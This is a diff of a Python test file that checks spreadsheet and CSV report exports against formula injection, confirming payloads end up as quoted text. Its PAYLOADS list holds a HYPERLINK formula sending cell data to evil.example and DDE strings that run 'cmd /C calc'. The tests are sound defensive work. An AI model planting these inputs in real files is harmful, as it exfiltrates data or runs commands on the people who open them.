@@ -33,9 +33,9 @@ from nofakes.supply.loading import load_supply
 FIXTURES = TESTS / "fixtures" / "reports"
 PACK = FIXTURES / "pack.yaml"
 SHEETS = ["Summary", "Gaps", "Remediation plan", "Plan by partner", "Partners", "Rules", "Waivers", "Run"]
-PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)", "-2+3*cmd|' /C calc'!A0", "@SUM(1+1)",
-    "\t=1+1", "\r=1+1", "=cmd|'/C calc'!A0", "Nul\x00Bell\x07Esc\x1b[31mName", "\u202eevil\u202c name",
+PAYLOADS = [  # the first names the company, the next five the partners, the last three the waiver reasons
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "\u202eevil\u202c name\ud800\uffff", "+SUM(1+1)",
+    "-2+3*cmd|' /C calc'!A0", "@SUM(1+1)", "Nul\x00Bell\x07Esc\x1b[31mName", "\t=1+1", "\r=1+1", "=cmd|'/C calc'!A0",
 ]
 
 
@@ -181,7 +181,7 @@ def payload_supply(tmp_path: Path) -> Path:
     """The report fixture with every partner name, the company name and the waiver reasons made of payloads."""
     data = yaml.safe_load((FIXTURES / "supply.yaml").read_text(encoding="utf-8"))
     more = yaml.safe_load((FIXTURES / "more.yaml").read_text(encoding="utf-8"))
-    names = iter(PAYLOADS[1:] * 2)
+    names = iter(PAYLOADS[1:])
     for node in data["nodes"] + more["nodes"]:
         node["name"] = next(names)
     data["company"]["name"] = PAYLOADS[0]  # on the Summary, the sheet LibreOffice converts to CSV
@@ -204,18 +204,18 @@ def test_formula_payloads_are_text_in_both_formats_and_unsafe_characters_are_gon
                 assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                 if isinstance(cell.value, str):
                     texts.add(cell.value)
-                    assert not any(ch in cell.value for ch in "\x00\x07\x1b\u202e\u202c")
+                    assert not any(ch in cell.value for ch in "\x00\x07\x1b\u202e\u202c\ud800\uffff")
                     if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                         assert cell.quotePrefix, (sheet.title, cell.coordinate)
                         seen.add(cell.value)
-    assert {cell_text(p) for p in PAYLOADS[:7]} <= seen  # every formula payload reached the workbook, as text
+    assert {cell_text(p) for p in PAYLOADS if starts_formula(cell_text(p))} <= seen  # all there, as text
     assert {cell_text(p) for p in PAYLOADS} <= texts  # "NulBellEsc[31mName", "evil name": kept, made safe
     fields = [field for row in csv_rows(view) for field in row]
     texts_only = [f for f in fields if not re.fullmatch(r"-?\d+(\.\d+)?", f)]  # a tier of -2 is a number
     assert texts_only and not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in texts_only)
     risky = {cell_text(v) for row in gap_rows(view) for v in row if isinstance(v, str) and starts_formula(cell_text(v))}
     assert len(risky) >= 3 and {"'" + text for text in risky} <= set(fields)  # kept, behind an apostrophe
-    assert not any(ch in f for f in fields for ch in "\x00\x07\x1b\u202e")
+    assert not any(ch in f for f in fields for ch in "\x00\x07\x1b\u202e\ud800\uffff")
 
 
 def test_cell_text_keeps_line_breaks_and_shortens_what_a_cell_cannot_hold() -> None:
